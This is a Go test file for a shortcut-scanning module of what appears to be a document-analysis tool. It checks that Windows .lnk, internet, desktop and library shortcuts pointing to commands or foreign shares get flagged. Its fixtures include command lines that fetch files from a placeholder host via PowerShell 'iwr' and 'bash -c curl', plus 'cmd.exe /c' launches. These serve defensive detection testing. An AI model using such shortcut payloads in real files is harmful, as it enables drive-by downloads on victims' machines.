package shortcut_test

import (
	"encoding/binary"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/bienvu/bienvu/internal/analysis/document/paper"
	"github.com/bienvu/bienvu/internal/analysis/document/shortcut"
)

// lnk writes a shortcut with a relative path and arguments, in UTF-16.
func lnk(path, arguments string) []byte {
	b := make([]byte, 76)
	copy(b, "L\x00\x00\x00\x01\x14\x02\x00")
	binary.LittleEndian.PutUint32(b[20:], 1<<3|1<<5|1<<7)
	for _, s := range []string{path, arguments} {
		u := utf16.Encode([]rune(s))
		b = binary.LittleEndian.AppendUint16(b, uint16(len(u)))
		for _, c := range u {
			b = binary.LittleEndian.AppendUint16(b, c)
		}
	}
	return b
}

func signs(c *paper.Contents) (out []paper.Kind) {
	for _, s := range c.Signs {
		out = append(out, s.Kind)
	}
	return out
}

func TestLink(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		path, arguments string
		want            []paper.Kind
		links           int
	}{
		"a document":           {`..\plan.docx`, "", nil, 0},
		"a command":            {`..\..\Windows\System32\cmd.exe`, "/c start x", []paper.Kind{paper.Command}, 0},
		"a command that gets":  {`powershell.exe`, "iwr https://a.example/x -o y", []paper.Kind{paper.Command}, 1},
		"a stranger's share":   {`\\files.a.example\pub\x.exe`, "", []paper.Kind{paper.Elsewhere}, 0},
		"a share of one's own": {`\\server\pub\x.docx`, "", nil, 0},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := shortcut.ReadLink(lnk(c.path, c.arguments), paper.Default())
			if diff := cmp.Diff(c.want, signs(got)); diff != "" || len(got.Links) != c.links {
				t.Errorf("links %v; %s", got.Links, diff)
			}
		})
	}
}

func TestInternet(t *testing.T) {
	t.Parallel()
	for text, c := range map[string]struct {
		want  []paper.Kind
		links int
	}{
		"[InternetShortcut]\r\nURL=https://a.example/\r\n":                                                              {nil, 1},
		"[InternetShortcut]\r\nURL=file://files.a.example@80/x.exe\r\n":                                                 {[]paper.Kind{paper.Elsewhere}, 0},
		"[Desktop Entry]\nExec=bash -c 'curl https://a.example/x'\n":                                                    {[]paper.Kind{paper.Command}, 1},
		"<libraryDescription><simpleLocation><url>\\\\files.a.example\\pub</url></simpleLocation></libraryDescription>": {[]paper.Kind{paper.Elsewhere}, 0},
		"nothing of the kind": {nil, 0},
	} {
		got := shortcut.ReadInternet([]byte(text), paper.Default())
		if diff := cmp.Diff(c.want, signs(got)); diff != "" || len(got.Links) != c.links {
			t.Errorf("%q: links %v; %s", text, got.Links, diff)
		}
	}
}

func FuzzRead(f *testing.F) {
	f.Add(lnk("cmd.exe", "/c"))
	f.Add([]byte("URL=http"))
	f.Fuzz(func(_ *testing.T, b []byte) {
		shortcut.ReadLink(b, paper.Default())
		shortcut.ReadInternet(b, paper.Default())
	})
}
